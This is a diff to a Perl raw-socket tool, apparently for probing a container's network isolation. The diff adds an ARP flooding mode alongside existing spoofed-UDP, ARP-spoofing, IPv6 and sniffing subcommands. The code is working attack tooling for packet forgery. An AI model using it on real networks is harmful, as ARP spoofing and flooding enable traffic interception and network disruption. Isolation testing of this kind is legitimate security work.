@@ -2,6 +2,7 @@
 # Frames that no honest program sends, through the container's own interface.
 #   forge.pl udp GATEWAY FROM TO PORT TEXT   a datagram with this source, by way of the gateway
 #   forge.pl arp GATEWAY ADDRESS             says a hundred times that ADDRESS is here
+#   forge.pl flood GATEWAY COUNT             frames and ARP from so many senders that are not there
 #   forge.pl six GATEWAY                     an IPv6 datagram to the gateway's card
 #   forge.pl sniff GATEWAY SECONDS           which addresses frames came from or went to
 use strict;
@@ -14,7 +15,7 @@ my $there = pack 'H12', card($gateway);
 my $index = slurp('/sys/class/net/eth0/ifindex') + 0;
 socket(my $wire, 17, SOCK_RAW, unpack 'S', pack 'n', 3) or die "no packet socket: $!\n";
 bind $wire, pack 'SnlSCCa8', 17, 3, $index, 0, 0, 0, '' or die "bind: $!\n";
-{ udp => \&udp, arp => \&arp, six => \&six, sniff => \&sniff }->{$what}->(@rest);
+{ udp => \&udp, arp => \&arp, six => \&six, flood => \&flood, sniff => \&sniff }->{$what}->(@rest);
 print "done\n";
 
 sub slurp { local (@ARGV, $/) = shift; return <> }
@@ -61,6 +62,14 @@ sub arp {
     for (1 .. 50) {
         frame($everyone, 0x0806, pack 'nnCCn a6a4a6a4', 1, 0x0800, 6, 4, 1, $here, $claimed, "\0" x 6, $claimed);
         frame($there, 0x0806, pack 'nnCCn a6a4a6a4', 1, 0x0800, 6, 4, 2, $here, $claimed, $there, inet_aton $gateway);
+    }
+}
+
+sub flood {
+    my $count = shift;
+    for my $number (1 .. $count) {
+        ($here, my $who) = (pack('nN', 0x0200, $number), pack 'N', 0x0b000000 + $number);
+        frame($there, 0x0806, pack 'nnCCn a6a4a6a4', 1, 0x0800, 6, 4, 1, $here, $who, "\0" x 6, inet_aton $gateway);
     }
 }
 
